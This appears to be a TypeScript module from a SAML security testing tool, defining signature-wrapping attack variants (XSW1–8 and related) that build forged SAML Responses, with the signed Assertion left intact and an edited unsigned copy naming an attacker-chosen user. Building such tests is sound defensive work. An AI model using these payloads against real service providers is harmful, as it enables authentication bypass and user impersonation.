import { NS } from '../constants.js';
import type { AttackContext } from './context.js';
import { childNamed, element, mutate, setNameId, unsignedClone } from './mutate.js';
import { type AttackVariant, REF } from './variant.js';

/** Signed only on the Response (what XSW1/2 wrap) or only on the Assertion (XSW3–8). */
const responseSigned = (ctx: AttackContext) => ctx.issue({ signed: 'response' });
const assertionSigned = (ctx: AttackContext) => ctx.issue({ signed: 'assertion' });

/** An edited, unsigned copy of the Assertion naming the attacker's user, with a new ID. */
function evilCopy(ctx: AttackContext, assertion: Element): Element {
  const evil = setNameId(unsignedClone(assertion), ctx.evil);
  evil.setAttribute('ID', ctx.freshId());
  return evil;
}

const xsw = (n: number, title: string, build: AttackVariant['build']): AttackVariant => ({
  id: `xsw${n}`,
  title: `XSW${n}: ${title}`,
  reference: REF.breakingSaml,
  build,
});

/** Signature wrapping: the signed element stays intact somewhere, the SP is led to read another. */
export const WRAPPING: AttackVariant[] = [
  xsw(1, 'signed Response cloned into its own Signature, outer Response edited with a new ID', (ctx) =>
    mutate(responseSigned(ctx), ({ response, responseSignature }) => {
      responseSignature?.appendChild(unsignedClone(response));
      response.setAttribute('ID', ctx.freshId());
      setNameId(childNamed(response, 'Assertion'), ctx.evil);
    }),
  ),
  xsw(2, 'clone as a sibling before the (now detached) Signature', (ctx) =>
    mutate(responseSigned(ctx), ({ response, responseSignature }) => {
      response.insertBefore(unsignedClone(response), responseSignature ?? null);
      response.setAttribute('ID', ctx.freshId());
      setNameId(childNamed(response, 'Assertion'), ctx.evil);
    }),
  ),
  xsw(3, 'edited unsigned copy with a new ID inserted before the signed Assertion', (ctx) =>
    mutate(assertionSigned(ctx), ({ response, assertion }) => {
      response.insertBefore(evilCopy(ctx, assertion), assertion);
    }),
  ),
  xsw(4, 'edited copy appended, the signed Assertion moved inside it', (ctx) =>
    mutate(assertionSigned(ctx), ({ response, assertion }) => {
      const evil = evilCopy(ctx, assertion);
      response.removeChild(assertion);
      evil.appendChild(assertion);
      response.appendChild(evil);
    }),
  ),
  xsw(5, 'Assertion edited in place with a new ID, unedited unsigned copy appended', (ctx) =>
    mutate(assertionSigned(ctx), ({ response, assertion }) => {
      const copy = unsignedClone(assertion);
      setNameId(assertion, ctx.evil).setAttribute('ID', ctx.freshId());
      response.appendChild(copy);
    }),
  ),
  xsw(6, "as XSW5, the unedited copy inside the edited Assertion's Signature", (ctx) =>
    mutate(assertionSigned(ctx), ({ assertion, assertionSignature }) => {
      const copy = unsignedClone(assertion);
      setNameId(assertion, ctx.evil).setAttribute('ID', ctx.freshId());
      assertionSignature?.appendChild(copy);
    }),
  ),
  xsw(7, 'Extensions before the Assertion holds an edited unsigned copy with the same ID', (ctx) =>
    mutate(assertionSigned(ctx), ({ doc, response, assertion }) => {
      const ext = element(doc, NS.protocol, 'saml2p:Extensions');
      ext.appendChild(setNameId(unsignedClone(assertion), ctx.evil));
      response.insertBefore(ext, childNamed(response, 'Status'));
    }),
  ),
  xsw(8, 'Assertion edited in place (same ID), the unedited copy in an Object inside its Signature', (ctx) =>
    mutate(assertionSigned(ctx), ({ doc, assertion, assertionSignature }) => {
      const object = element(doc, NS.dsig, 'ds:Object');
      object.appendChild(unsignedClone(assertion));
      assertionSignature?.appendChild(object);
      setNameId(assertion, ctx.evil);
    }),
  ),
  {
    id: 'xsw-advice',
    title: 'signed Assertion wrapped in the Advice of an edited unsigned one',
    reference: `${REF.breakingSaml}; ${REF.samlCore('2.6')}`,
    build: (ctx) =>
      mutate(assertionSigned(ctx), ({ doc, response, assertion }) => {
        const evil = evilCopy(ctx, assertion);
        const advice = element(doc, NS.assertion, 'saml2:Advice');
        evil.insertBefore(advice, childNamed(evil, 'AuthnStatement'));
        response.replaceChild(evil, assertion);
        advice.appendChild(assertion);
      }),
  },
  {
    id: 'xsw-subject-confirmation',
    title: 'signed Assertion wrapped in the SubjectConfirmationData of an edited unsigned one',
    reference: REF.breakingSaml,
    build: (ctx) =>
      mutate(assertionSigned(ctx), ({ response, assertion }) => {
        const evil = evilCopy(ctx, assertion);
        const scd = childNamed(
          childNamed(childNamed(evil, 'Subject'), 'SubjectConfirmation'),
          'SubjectConfirmationData',
        );
        response.replaceChild(evil, assertion);
        scd.appendChild(assertion);
      }),
  },
  {
    id: 'two-assertions',
    title: 'two Assertions: the signed one first, an edited unsigned one after it',
    reference: `${REF.breakingSaml}; ${REF.samlProfiles('4.1.4.2')}`,
    build: (ctx) =>
      mutate(assertionSigned(ctx), ({ response, assertion }) => {
        response.appendChild(evilCopy(ctx, assertion));
      }),
  },
];
